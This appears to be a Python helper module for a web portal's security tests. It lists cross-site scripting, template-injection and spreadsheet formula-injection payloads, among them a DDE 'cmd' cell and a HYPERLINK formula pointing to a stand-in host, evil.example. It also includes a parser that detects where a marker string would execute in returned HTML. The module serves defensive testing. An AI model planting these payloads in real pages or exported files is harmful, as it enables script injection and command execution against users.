"""Hostile text and the checks that it never runs, shared by the tests that write it into the
portal (by hand into every field, or through the real actions) and read the pages back."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

MARKER = "xss7331"

PAYLOADS = [
    f"<script>alert('{MARKER}')</script>",
    f'"><img src=x onerror=alert("{MARKER}")>',
    f"'><svg onload=alert('{MARKER}')>",
    f"javascript:alert('{MARKER}')",
    f"[click](javascript:alert('{MARKER}'))",
    f"![img](javascript:alert('{MARKER}'))",
    f'" onmouseover="alert(\'{MARKER}\')" x="',
    f"</textarea><script>alert('{MARKER}')</script>",
    f"</title></style><iframe src=javascript:alert('{MARKER}')>",
    f"{{{{ 7*7 }}}}{{% debug %}}${{7*7}} {MARKER}",
    f"\u202e{MARKER}gnp.exe <b onclick=alert('{MARKER}')>",
    f'=HYPERLINK("http://evil.example/?{MARKER}","x")',
    f"+cmd|' /C calc'!A0 {MARKER}",
    f"-2+3+cmd {MARKER}",
    f"@SUM(1+1)*cmd {MARKER}",
    f"<a href=\"jAvAsCrIpT&colon;alert('{MARKER}')\">x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARKER}')>",
]
EVERYTHING = "\n".join(PAYLOADS)

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}

# A cell a spreadsheet would read as a formula.
FORMULA = re.compile(r"^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")


class _Executable(HTMLParser):
    """Collects every place in a page where the marker could run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)
        self.in_script = tag == "script"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and MARKER in data:
            self.found.append(f"script text: {data[:80]!r}")

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and MARKER in value:
                self.found.append(f"<{tag} {name}={value[:60]!r}>")
            squashed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name in URL_ATTRIBUTES and squashed.startswith(("javascript:", "vbscript:")):
                self.found.append(f"<{tag} {name}={value[:60]!r}>")
            if tag in {"script", "iframe", "object", "embed"} and MARKER in value:
                self.found.append(f"<{tag} {name}={value[:60]!r}>")


def executable_markup(html: str) -> list[str]:
    """Where in `html` the marker would run (an empty list: nowhere)."""
    parser = _Executable()
    parser.feed(html)
    parser.close()
    return parser.found


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
